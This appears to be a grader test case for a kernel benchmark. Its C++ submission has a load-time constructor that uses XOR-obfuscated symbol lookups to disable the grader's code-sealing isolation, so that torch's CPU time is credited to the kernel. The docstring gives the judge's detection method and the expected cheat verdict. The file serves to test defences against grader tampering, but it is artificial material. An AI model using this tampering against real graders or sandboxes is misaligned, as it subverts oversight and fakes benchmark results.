"""Attack: the library's constructor stops the worker sealing its code. mseal is asked for by
the worker's Python just after the library loads; the constructor, which runs inside that load,
finds the Python C API without naming it (dl_iterate_phdr and the GNU-hash lookup, names
XOR-encoded) and replaces grader.isolation.seal.seal_code with a function that seals nothing.
Unsealed, the library's code could later be moved out and torch's moved in (mremap makes no
PERF_RECORD_MMAP2) and the CPU sampler would count torch's samples as the kernel's own.
Defence: the judge does not take the worker's word: just after the load it reads every
executable file mapping's VmFlags in /proc/PID/smaps (`sl`: sealed) and flags strict any left
unsealed, or writable, in a process that sealed any (grader/judge/judge.py `_check_sealed`,
grader/isolation/seal.py `unsealed`). The kernel computes honestly otherwise.
Expect: status=cheat_suspected; without=ok; flags=strict:foreign_cpu_time
"""

_CPP_SRC = r"""
#include <torch/extension.h>
@@CORRECT@@
@@GNU_LOOKUP@@

namespace {
struct Found { const char* name; void* fn; };

int visit(struct dl_phdr_info* info, size_t, void* data) {
    Found* f = (Found*)data;
    if (f->fn || !info->dlpi_addr) return 0;
    f->fn = ho::gnu_find(info->dlpi_addr, f->name);
    return f->fn ? 1 : 0;
}

void* loaded_fn(const unsigned char* enc, size_t n) {
    using Visit = int (*)(struct dl_phdr_info*, size_t, void*);
    using Iterate = int (*)(Visit, void*);
    static const unsigned char iterate_xor[] = {0x3e, 0x36, 0x5, 0x33, 0x2e, 0x3f, 0x28, 0x3b, 0x2e, 0x3f, 0x5, 0x2a, 0x32, 0x3e, 0x28};           /* dl_iterate_phdr, found in libc */
    auto iterate = (Iterate)ho::libc_fn(iterate_xor, sizeof(iterate_xor));
    if (!iterate) return nullptr;
    const std::string name = ho::dec(enc, n);
    Found f{name.c_str(), nullptr};
    iterate(visit, &f);
    return f.fn;
}

__attribute__((constructor)) void skip_the_seal() {
    static const unsigned char ensure_xor[] = {0xa, 0x23, 0x1d, 0x13, 0x16, 0x9, 0x2e, 0x3b, 0x2e, 0x3f, 0x5, 0x1f, 0x34, 0x29, 0x2f, 0x28, 0x3f}, release_xor[] = {0xa, 0x23, 0x1d, 0x13, 0x16, 0x9, 0x2e, 0x3b, 0x2e, 0x3f, 0x5, 0x8, 0x3f, 0x36, 0x3f, 0x3b, 0x29, 0x3f}, run_xor[] = {0xa, 0x23, 0x8, 0x2f, 0x34, 0x5, 0x9, 0x33, 0x37, 0x2a, 0x36, 0x3f, 0x9, 0x2e, 0x28, 0x33, 0x34, 0x3d}, code_xor[] = {0x33, 0x37, 0x2a, 0x35, 0x28, 0x2e, 0x7a, 0x3d, 0x28, 0x3b, 0x3e, 0x3f, 0x28, 0x74, 0x33, 0x29, 0x35, 0x36, 0x3b, 0x2e, 0x33, 0x35, 0x34, 0x74, 0x29, 0x3f, 0x3b, 0x36, 0x7a, 0x3b, 0x29, 0x7a, 0x29, 0x61, 0x7a, 0x29, 0x74, 0x29, 0x3f, 0x3b, 0x36, 0x5, 0x39, 0x35, 0x3e, 0x3f, 0x7a, 0x67, 0x7a, 0x36, 0x3b, 0x37, 0x38, 0x3e, 0x3b, 0x60, 0x7a, 0x72, 0x6a, 0x76, 0x7a, 0x7d, 0x7d, 0x73};
    auto ensure = (int (*)())loaded_fn(ensure_xor, sizeof(ensure_xor));
    auto release = (void (*)(int))loaded_fn(release_xor, sizeof(release_xor));
    auto run = (int (*)(const char*))loaded_fn(run_xor, sizeof(run_xor));
    if (!ensure || !release || !run) return;
    const std::string code = ho::dec(code_xor, sizeof(code_xor));
    const int state = ensure();
    run(code.c_str());
    release(state);
}
}  // namespace

torch::Tensor attention(torch::Tensor q, torch::Tensor k, torch::Tensor v) {
    return correct_attention(q, k, v);
}
"""
